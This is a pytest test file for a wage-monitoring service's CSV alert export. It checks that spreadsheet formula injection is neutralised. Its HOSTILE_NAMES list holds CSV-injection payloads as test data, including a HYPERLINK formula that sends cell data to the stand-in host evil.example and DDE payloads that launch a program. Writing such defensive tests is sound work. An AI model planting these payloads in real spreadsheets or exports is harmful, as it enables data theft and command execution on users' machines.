"""`wageguard alerts export --format csv`: cells a spreadsheet would run as formulas are
neutralised (CSV injection); every other value is exactly the contract's."""

import csv
import io
import json
from datetime import date

import pytest
from sqlalchemy import text

from service.alerts.export import open_alerts, write_csv, write_jsonl
from service.db import make_engine
from service.flows.monitor_runs import run_monitors
from service.imports.service import run_import
from service.spreadsheets import safe_cell
from tests.factories import EMPLOYER_A, valid_files, write_folder
from tests.service.test_cli import wageguard

AS_OF = date(2026, 11, 30)
HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?d="&A2,"点击查看")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+86 577", "'+86 577"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("温州鹿城鞋业有限公司", "温州鹿城鞋业有限公司"),
        ("a=b", "a=b"),
        ("-12.50", "-12.50"),  # a plain number is no formula
        ("3192.77", "3192.77"),
        (42, 42),
        (None, None),
    ],
)
def test_safe_cell_neutralises_formulas_and_keeps_plain_values(value, shown):
    assert safe_cell(value) == shown


def test_employers_named_like_formulas_are_exported_as_text(db_url, reference, tmp_path):
    """The first name through the CLI as an inspector runs it; the others by the same
    functions in process, the employer renamed between exports (one import and one run)."""
    files = valid_files()
    files["employers"][0]["name"] = HOSTILE_NAMES[0]
    engine = make_engine(db_url)
    assert run_import(engine, write_folder(tmp_path / "in", files), reference).ok
    run_monitors(engine, reference, as_of=AS_OF)

    exported = wageguard("alerts", "export", "--format", "csv", database_url=db_url)
    assert exported.returncode == 0, exported.stderr
    lines = wageguard("alerts", "export", "--format", "jsonl", database_url=db_url)
    assert lines.returncode == 0, lines.stderr
    _check_export(HOSTILE_NAMES[0], exported.stdout, lines.stdout)

    for name in HOSTILE_NAMES[1:]:
        with engine.begin() as conn:
            conn.execute(
                text("UPDATE employer SET name = :name WHERE uscc = :uscc"),
                {"name": name, "uscc": EMPLOYER_A},
            )
        as_csv, as_jsonl = io.StringIO(), io.StringIO()
        write_csv(open_alerts(engine, reference), as_csv)
        write_jsonl(open_alerts(engine, reference), as_jsonl)
        _check_export(name, as_csv.getvalue(), as_jsonl.getvalue())
    engine.dispose()


def _check_export(name: str, csv_text: str, jsonl_text: str) -> None:
    rows = list(csv.DictReader(io.StringIO(csv_text)))
    hostile = [row for row in rows if row["employer_uscc"] == EMPLOYER_A]
    assert hostile, "the monitors raise alerts about employer A"
    assert {row["employer_name"] for row in hostile} == {"'" + name}
    for row in rows:
        unsafe = [v for v in row.values() if v[:1] in ("=", "+", "@", "\t", "\r")]
        assert not unsafe, row
        # The contract's fields keep their values: amounts are plain CNY with two decimals.
        assert row["amount"] == "" or row["amount"].replace(".", "", 1).isdigit(), row
        assert row["subject_count"].isdigit()

    # JSON lines are no spreadsheet: the name stays exactly as the employer filed it.
    names = {json.loads(line)["employer_name"] for line in jsonl_text.splitlines()}
    assert name in names
